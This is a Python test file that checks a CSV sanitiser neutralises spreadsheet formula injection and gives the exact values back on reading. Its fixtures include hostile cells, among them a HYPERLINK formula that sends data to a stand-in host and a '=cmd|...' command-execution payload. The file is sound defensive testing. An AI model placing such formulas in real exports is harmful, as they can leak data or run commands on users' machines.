"""summary.csv and status.csv are safe to open in a spreadsheet and read back exactly (flows.csvsafe).

A text cell or column name a spreadsheet would take for a formula (OWASP CSV injection: a leading ``=``, ``+``,
``-``, ``@``, tab, carriage return; NUL from OWASP ASVS) is written with a leading single quote; numbers stay
numbers; every reader of these files (flows.summary.read_summary, which the report and the status merge use too,
rerun_ids/rerun_selection, ``harmonize report``'s rebuild) gives back the exact values, cells of any size included.
"""

from __future__ import annotations

import csv
import io

import pytest
from conftest import TEST_BACKBONE, TEST_WEIGHTS

from flows import csvsafe
from flows.cli.main import main
from flows.summary import (
    COLUMNS,
    STATUS_COLUMNS,
    STATUS_NAME,
    SUMMARY_NAME,
    read_summary,
    rerun_ids,
    rerun_selection,
    update_status,
    write_summary,
)
from manifests.validate import read_manifest
from tasks import storage

HOSTILE = ['=HYPERLINK("http://x/?leak","click")', "+1", "@SUM(1)", "\t=1+1", "-2+3", "\r=1", "\0=1",
           "'=already quoted", "''@twice", "'tis plain", "a,b \"quoted\"\nsecond line", "=", "-", "- a dash note"]
TRIGGERS = tuple("=+-@\t\r\0")


def raw_cells(data: bytes) -> list[list[str]]:
    """Every cell of a CSV as a plain csv reader (or a spreadsheet) sees it, header first."""
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def assert_no_live_formula(data: bytes) -> None:
    for line in raw_cells(data):
        for cell in line:
            assert not cell.startswith(TRIGGERS) or csvsafe.NUMBER.fullmatch(cell), repr(cell)


@pytest.mark.parametrize(("value", "written"), [
    ('=HYPERLINK("http://x/?leak","click")', '\'=HYPERLINK("http://x/?leak","click")'),
    ("+1", "'+1"), ("@SUM(1)", "'@SUM(1)"), ("\t=1+1", "'\t=1+1"), ("\r=1", "'\r=1"), ("\0x", "'\0x"),
    ("-2+3", "'-2+3"), ("-", "'-"), ("'=x", "''=x"), ("''@", "'''@"),
    ("'tis", "'tis"), ("plain", "plain"), ("", ""), (None, ""), (" =1", " =1"),
    (-1.5, "-1.5"), (1e-3, "0.001"), (-2.5e-07, "-2.5e-07"), (3, "3"), ("-1.5", "-1.5"), ("1e-3", "1e-3"),
    (float("-inf"), "'-inf"),  # not a number to a spreadsheet: =-inf would be a formula
])
def test_cells_are_neutralised_the_owasp_way_and_numbers_stay_numbers(value, written):
    assert csvsafe.neutralise(value) == written
    assert csvsafe.restore(written) == ("" if value is None else str(value))


def test_restore_leaves_cells_it_did_not_neutralise():
    for text in ("'tis", "'", "''", "plain", "-1.5", "=legacy formula from an old file"):
        assert csvsafe.restore(text) == text
    assert csvsafe.restore("'=x") == "=x" and csvsafe.restore("''=x") == "'=x"


def summary_rows() -> list[dict]:
    rows = [{"id": f"item{n}", "row": n + 2, "status": "invalid", "error": value, "warnings": value,
             "extra": {"notes": value, "=cmd|'/c calc'!A1": value, "@header": "x"}} for n, value in enumerate(HOSTILE)]
    rows.append({"id": "numbers", "row": 99, "status": "completed", "total_s": -1.5, "pass1_loss": 1e-3,
                 "pass2_loss": 2.5e-07, "tau": 5.0, "quality_style": 0.25, "extra": {"notes": "-1.5"}})
    return rows


def test_summary_csv_is_safe_and_every_reader_gets_the_values_back(tmp_path):
    uri = write_summary(str(tmp_path / SUMMARY_NAME), summary_rows())
    data = storage.read_bytes(uri)
    assert_no_live_formula(data)
    header = raw_cells(data)[0]
    assert header[len(COLUMNS):] == ["notes", "'=cmd|'/c calc'!A1", "'@header"]  # extra column names too
    numbers = raw_cells(data)[-1]
    assert [numbers[header.index(c)] for c in ("total_s", "pass1_loss", "pass2_loss", "tau", "notes")] == [
        "-1.5", "0.001", "2.5e-07", "5.0", "-1.5"]  # written as numbers, no quote

    for rows in (read_summary(uri),):  # the one reader: the summary, the status merge and the report use it
        assert list(rows[0])[len(COLUMNS):] == ["notes", "=cmd|'/c calc'!A1", "@header"]
        for row, value in zip(rows, HOSTILE, strict=False):
            assert (row["error"], row["warnings"], row["notes"], row["=cmd|'/c calc'!A1"]) == (value,) * 4
        assert (rows[-1]["total_s"], rows[-1]["pass1_loss"], rows[-1]["notes"]) == ("-1.5", "0.001", "-1.5")
    rewritten = write_summary(str(tmp_path / "again.csv"), read_summary(uri))  # what a rebuild does
    assert storage.read_bytes(rewritten) == data


def test_status_csv_merges_keep_formula_cells_exact_and_only_failed_reads_them(tmp_path):
    out = str(tmp_path / "out")
    bad_ids = ['=HYPERLINK("http://x/?leak","click")', "+1", "@SUM(1)", "\t=1+1"]
    rows = [{"id": item_id, "row": n + 2, "status": "invalid", "error": f"id: unsafe {item_id}", "warnings": "=1+1"}
            for n, item_id in enumerate(bad_ids)]
    update_status(out, "run-1", rows)
    uri = storage.join(out, STATUS_NAME)
    first = storage.read_bytes(uri)
    assert_no_live_formula(first)
    assert raw_cells(first)[0] == list(STATUS_COLUMNS)
    update_status(out, "run-2", [{"id": "ok", "row": 9, "status": "completed", "tau": 5.0}])  # read, merge, rewrite
    status = {r["id"]: r for r in read_summary(uri)}
    assert set(status) == {*bad_ids, "ok"}
    for item_id in bad_ids:
        assert (status[item_id]["error"], status[item_id]["warnings"]) == (f"id: unsafe {item_id}", "=1+1")
        assert status[item_id]["last_run"] == "run-1"
    assert status["ok"]["tau"] == "5.0"
    assert sorted(rerun_ids(uri)) == sorted(bad_ids)
    assert rerun_selection(uri, {"+1", "ok"}) == (["+1"], [i for i in sorted(bad_ids) if i != "+1"])


def test_the_manifest_reader_keeps_extra_cells_verbatim(tmp_path):
    manifest = tmp_path / "m.csv"
    manifest.write_text('id,content,style,mask,notes,\t=cmd\n a ,c.png,s.png,m.png,"\t=1+1", spaced \n')
    columns, rows = read_manifest(str(manifest))
    assert columns[-2:] == ["notes", "\t=cmd"]
    assert rows[0]["id"] == "a"  # known columns are stripped
    assert (rows[0]["notes"], rows[0]["\t=cmd"]) == ("\t=1+1", " spaced ")  # extra ones are not: no tab lost


def test_a_run_writes_hostile_cells_safely_and_report_and_only_failed_read_them_back(prefect_api, tmp_path, capsys):
    """Invalid rows with formula ids, notes and an extra column named like a formula, end to end (no compute)."""
    from flows.harmonize import harmonize_manifest

    data = tmp_path / "data"
    data.mkdir()
    ids = ['=HYPERLINK("http://x/?leak","click")', "+1", "@SUM(1)"]
    notes = ["\t=1+1", "-1+2", "=2*3"]
    lines = ["id,content,style,mask,notes,=HYPERLINK(\"h\")"]
    lines += [f'"{i.replace(chr(34), chr(34) * 2)}",c.png,s.png,m.png,"{n}",@x' for i, n in zip(ids, notes, strict=True)]
    manifest = data / "manifest.csv"
    manifest.write_text("\n".join(lines) + "\n")
    out = tmp_path / "out"
    state = harmonize_manifest(manifest=str(manifest), out=str(out), backbone=TEST_BACKBONE, weights=TEST_WEIGHTS,
                               device="cpu", return_state=True)
    result = state.result(raise_on_failure=False)
    summary_uri = result.summary_uri
    for uri in (summary_uri, str(out / STATUS_NAME)):
        assert_no_live_formula(storage.read_bytes(uri))
    rows = read_summary(summary_uri)
    assert [(r["id"], r["status"], r["notes"], r['=HYPERLINK("h")']) for r in rows] == [
        (i, "invalid", n, "@x") for i, n in zip(ids, notes, strict=True)]
    assert sorted(rerun_ids(str(out / STATUS_NAME))) == sorted(ids)

    assert main(["report", "--out", str(out)]) == 0  # the rebuild reads and rewrites the summary
    assert read_summary(summary_uri) == rows
    page = storage.read_bytes(capsys.readouterr().out.strip()).decode()
    assert "HYPERLINK(&quot;http://x/?leak&quot;,&quot;click&quot;)" in page  # shown as text, escaped
    only, skipped = rerun_selection(str(out / STATUS_NAME), {r["id"] for r in read_manifest(str(manifest))[1]})
    assert sorted(only) == sorted(ids) and skipped == []


def test_a_huge_cell_does_not_break_the_report_or_only_failed(tmp_path, capsys):
    out = str(tmp_path / "out")
    huge = "=" + "x" * 200_000  # over csv's default 131,072-character field limit, and a formula
    write_summary(storage.run_uri(out, "run-1", SUMMARY_NAME),
                  [{"id": "a", "row": 2, "status": "failed", "error": "pass1: boom", "extra": {"notes": huge}}])
    update_status(out, "run-1", [{"id": "a", "row": 2, "status": "failed", "error": huge}])
    csv.field_size_limit(131_072)  # the default, whatever an earlier test did
    assert main(["report", "--out", out]) == 0
    page = storage.read_bytes(capsys.readouterr().out.strip()).decode()
    assert "198,001 more characters in summary.csv" in page and len(page) < 60_000
    assert read_summary(storage.run_uri(out, "run-1", SUMMARY_NAME))[0]["notes"] == huge
    assert rerun_ids(storage.run_uri(out, "run-1", SUMMARY_NAME)) == ["a"]
    assert read_summary(storage.join(out, STATUS_NAME))[0]["error"] == huge
